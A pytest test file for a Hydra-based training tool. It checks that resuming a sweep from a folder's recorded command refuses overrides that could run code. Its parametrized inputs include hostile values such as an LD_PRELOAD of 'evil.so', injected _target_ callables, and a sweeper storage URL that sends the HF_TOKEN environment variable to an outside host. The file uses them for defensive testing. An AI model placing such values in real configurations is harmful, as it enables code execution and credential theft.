"""A sweep's folder is taken up again by its recorded command, unless that could run code: the folder may be anybody's."""

from pathlib import Path

import pytest
from omegaconf import OmegaConf

from raylight.config.resume import resumed_arguments, saved_config, start_of
from raylight.errors import ConfigError, RunError


def sweep(folder: Path, *command: str) -> Path:
    overrides = {
        "hydra": [word for word in command if "hydra" in word],
        "task": [w for w in command if "hydra" not in w],
    }
    OmegaConf.save(OmegaConf.create({"hydra": {"overrides": overrides}}), folder / "multirun.yaml")
    return folder


def test_a_sweep_goes_on_by_its_own_command(tmp_path: Path) -> None:
    command = (
        "hydra/sweeper=optuna",
        "hydra.sweeper.n_trials=9",
        "hydra.sweeper.params.seed='1,2'",
        "model=cnn2",
        "+notes=x",
    )
    found = resumed_arguments([f"resume={sweep(tmp_path, 'hydra.mode=MULTIRUN', *command)}"])
    assert found == ["-m", *command, f"resume='{tmp_path}'", f"hydra.sweep.dir='{tmp_path}'"]


@pytest.mark.parametrize(
    "word",
    [
        "+hydra.callbacks.x={_target_: mine.Callback}",
        "hydra.sweeper._target_=mine.run",
        "++hydra.launcher.setup=[touch proof]",
        "hydra.launcher={_target_: mine.run}",
        "hydra.job.env_set.LD_PRELOAD=evil.so",
        "hydra.sweeper.storage=https://elsewhere/${oc.env:HF_TOKEN}",
        "hydra/job_logging=mine",
        "allowed_targets=[mine]",
        "++allowed_targets=[mine]",
    ],
)
def test_what_could_run_code_is_left_to_the_command_line(word: str, tmp_path: Path) -> None:
    sweep(tmp_path, "model=cnn2", word)
    with pytest.raises(ConfigError, match="which could run code; if the sweep is yours, give its whole command again"):
        resumed_arguments([f"resume={tmp_path}"])
    assert word in resumed_arguments(["-m", "model=cnn2", word, f"resume={tmp_path}"])


def test_a_run_goes_on_in_its_folder_and_alone(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"run: '.*' is not a run folder: it has no status.json"):
        resumed_arguments([f"run={tmp_path}"])
    (tmp_path / "status.json").touch()
    expected = [f"run='{tmp_path}'", f"hydra.run.dir='{tmp_path}'"]
    assert resumed_arguments([f"run={tmp_path}"]) == expected
    assert resumed_arguments([f"+run='{tmp_path}'"]) == expected
    for beside in (["seed=2"], ["-m"]):
        with pytest.raises(ConfigError, match=r"so no others can be given"):
            resumed_arguments([f"run={tmp_path}", *beside])


@pytest.mark.parametrize("arguments", [[], ["seed=1"], ["-m", "seed=1,2"], ["resume=null"], ["run=null"], ["resume="]])
def test_where_nothing_is_to_be_resumed_the_command_stays(arguments: list[str]) -> None:
    assert resumed_arguments(arguments) == arguments


def test_a_folder_without_a_sweep_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"resume: '.*' is not the folder of a sweep: it has no multirun.yaml"):
        resumed_arguments([f"resume={tmp_path}"])


@pytest.mark.parametrize("flag", ["-m", "--multirun", None])
def test_a_command_of_ones_own_is_not_mixed_with_the_recorded_one(flag: str | None, tmp_path: Path) -> None:
    sweep(tmp_path, "model=cnn2", "hydra.sweep.dir=elsewhere", "hydra.mode=MULTIRUN")
    given = [*([flag] if flag else []), "seed=1,2"]
    added = [f"resume='{tmp_path}'", f"hydra.sweep.dir='{tmp_path}'"]
    assert resumed_arguments([*given, f"resume={tmp_path}"]) == [*([] if flag else ["-m"]), *given, *added]
    assert resumed_arguments([f"resume={tmp_path}"]) == ["-m", "model=cnn2", *added]


def test_the_same_sweep_into_the_same_folder_goes_on(tmp_path: Path) -> None:
    command = ["-m", "seed=1,2", f"hydra.sweep.dir={tmp_path}"]
    assert resumed_arguments(command) == command
    sweep(tmp_path, "seed=1,2")
    assert resumed_arguments(command) == [*command, f"resume='{tmp_path}'"]
    assert resumed_arguments(command[1:]) == command[1:]  # no sweep
    searching = [*command, "hydra/sweeper=optuna"]
    assert resumed_arguments(searching) == searching  # goes on by its own study


def test_a_repeated_sweep_starts_where_it_was_started(tmp_path: Path) -> None:
    home, folder = tmp_path / "home", tmp_path / "sweep"
    folder.mkdir()
    sweep(folder, "seed=1,2")
    assert start_of([f"resume={folder}"]) is None  # it doesn't tell
    recorded = OmegaConf.load(folder / "multirun.yaml")
    OmegaConf.update(recorded, "hydra.runtime.cwd", str(home), force_add=True)
    OmegaConf.save(recorded, folder / "multirun.yaml")
    assert start_of([f"resume={folder}"]) is None  # it isn't there any more
    home.mkdir()
    assert start_of([f"resume={folder}"]) == home
    assert start_of(["-m", f"resume={folder}"]) == home
    assert start_of([f"resume={folder}", "seed=3"]) is None  # a command of its own
    assert start_of([f"resume={tmp_path}"]) is None
    assert start_of(["seed=3"]) is None
    assert start_of([]) is None


def test_the_settings_of_a_run_are_read_back_or_what_is_wrong_with_them_is_said(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("model: {name: mine}\nseed: 7\n")
    assert (saved_config(file).model.name, saved_config(file).seed) == ("mine", 7)
    for text, said in (
        ("finetune: {phases: [{train_on: head}]}", "train_on"),
        ("seed: many", "many"),
        ("a: [", "a: ["),
    ):
        file.write_text(text)
        with pytest.raises(RunError, match="can't be read as the settings of a run") as caught:
            saved_config(file)
        assert str(file) in str(caught.value)
        assert said in str(caught.value) or text == "a: ["
    with pytest.raises(RunError, match="No such file"):
        saved_config(tmp_path / "none.yaml")
